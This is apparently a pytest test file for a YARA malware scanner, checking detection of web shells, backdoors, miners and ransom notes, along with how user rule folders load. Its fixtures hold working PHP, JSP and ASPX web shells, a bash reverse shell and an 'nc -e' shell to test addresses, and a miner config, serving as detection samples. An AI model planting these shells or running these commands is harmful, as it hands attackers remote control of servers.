from __future__ import annotations

from pathlib import Path

import pytest

from aftermath.errors import UsageError
from aftermath.review.scanner import path_key
from aftermath.review.scanners.yara import YaraScanner, default_rule_files

SHELLS = {
    "/www/up/a.php": b'<?php if(isset($_POST["c"])) { system($_POST["c"]); } ?>',
    "/www/b.php": b"<?php @eval(base64_decode($_REQUEST['x'])); ?>",
    "/www/c.php": b'<?php eval(gzinflate(base64_decode("7X1rc9s4s")));',
    "/app/cmd.jsp": b'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    "/iis/a.aspx": b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>',
    "/tmp/r.sh": b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    "/tmp/n.sh": b"nc -e /bin/sh 203.0.113.9 4444",
    "/opt/config.json": b'{"pools": [{"url": "stratum+tcp://pool.example.net:3333"}], "donate-level": 1}',
}
BENIGN = {
    "/www/index.php": b'<?php echo htmlspecialchars($_GET["name"]); system("uptime"); ?>',
    "/docs/readme.txt": b"How to decrypt the config with openssl; see the bitcoin wiki for background.",
    "/app/Main.java": b"Runtime.getRuntime().exec(new String[]{\"ls\"});",
    "/opt/notes.md": b"We looked at XMRig once for a talk.",
}


@pytest.fixture(scope="module")
def scanner() -> YaraScanner:
    return YaraScanner.from_paths()


def test_default_rule_set_ships_and_compiles() -> None:
    names = {p.stem for p in default_rule_files()}
    assert {"webshells", "backdoors", "ransom_notes"} <= names


@pytest.mark.parametrize("path", sorted(SHELLS))
def test_default_rules_catch_shells_backdoors_and_miners(scanner: YaraScanner, path: str) -> None:
    found = scanner.scan(path, SHELLS[path])
    assert found and all(f.kind == "yara" and f.severity == "infected" and f.path == path for f in found)
    assert all(f.reason and not f.reason.startswith("matches YARA rule") for f in found)


@pytest.mark.parametrize("path", sorted(BENIGN))
def test_default_rules_leave_ordinary_files_alone(scanner: YaraScanner, path: str) -> None:
    assert scanner.scan(path, BENIGN[path]) == []


def test_ransom_note_rule_says_encrypted(scanner: YaraScanner) -> None:
    note = b"All your files have been encrypted. Pay 1 BTC for the decryption key. " + b"x" * 56 + b".onion"
    found = scanner.scan("/n.txt", note)
    assert {f.severity for f in found} == {"encrypted"}


def test_user_rules_from_a_folder_with_severity_meta(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "acme.yar").write_text(
        'rule acme_tool { meta: description = "the intruder\'s tool" severity = "suspicious" '
        'strings: $a = "ACME-BACKDOOR" condition: $a }')
    (tmp_path / "ignored.txt").write_text("not a rule")
    scanner = YaraScanner.from_paths([tmp_path], defaults=False)
    [finding] = scanner.scan("/x", b"...ACME-BACKDOOR...")
    assert (finding.rule, finding.severity, finding.reason) == ("acme:acme_tool", "suspicious", "the intruder's tool")
    assert scanner.scan("/x", b"nothing") == []


def test_broken_user_rules_are_a_usage_error_naming_the_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yar"
    bad.write_text("rule broken { condition: $missing }")
    with pytest.raises(UsageError, match="bad.yar"):
        YaraScanner.from_paths([bad])


def test_missing_rules_path_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="not found"):
        YaraScanner.from_paths([tmp_path / "nope.yar"])


def mixed_rule_folder(tmp_path: Path) -> Path:
    """A user's rule folder as found in the wild: a plain rule, a LOKI-style rule that reads the file's name
    and extension, and a broken file."""
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "plain.yar").write_text('rule acme { strings: $a = "ACME-BACKDOOR" condition: $a }')
    (folder / "loki_style.yar").write_text(
        'rule php_in_images { strings: $p = "<?php" condition: $p and extension == ".php" '
        'and filepath contains "/images" and filename != "index.php" }')
    (folder / "broken.yar").write_text("rule broken { condition: $missing }")
    return folder


def test_a_rule_folder_mixing_good_and_broken_files_works_and_names_what_it_skipped(tmp_path: Path) -> None:
    scanner = YaraScanner.from_paths([mixed_rule_folder(tmp_path)], defaults=False, strict=False)
    [(path, reason)] = scanner.skipped
    assert path.name == "broken.yar" and "$missing" in reason
    assert [f.rule for f in scanner.scan("/srv/x", b"..ACME-BACKDOOR..")] == ["plain:acme"]


def test_external_variables_are_set_per_file_as_loki_and_thor_do(tmp_path: Path) -> None:
    scanner = YaraScanner.from_paths([mixed_rule_folder(tmp_path)], defaults=False, strict=False)
    assert scanner.content_only is False and path_key(scanner, "/www/images/a.php") == "/www/images/a.php"
    page = b"<?php echo 1; ?>"
    assert [f.rule for f in scanner.scan("/www/images/a.php", page)] == ["loki_style:php_in_images"]
    assert scanner.scan("/www/images/index.php", page) == []
    assert scanner.scan("/www/a.php", page) == []
    assert scanner.scan("/www/images/a.txt", page) == []


def test_strict_rules_stop_at_the_broken_file(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="broken.yar"):
        YaraScanner.from_paths([mixed_rule_folder(tmp_path)], strict=True)


def test_default_rules_alone_stay_content_only() -> None:
    assert YaraScanner.from_paths().content_only is True
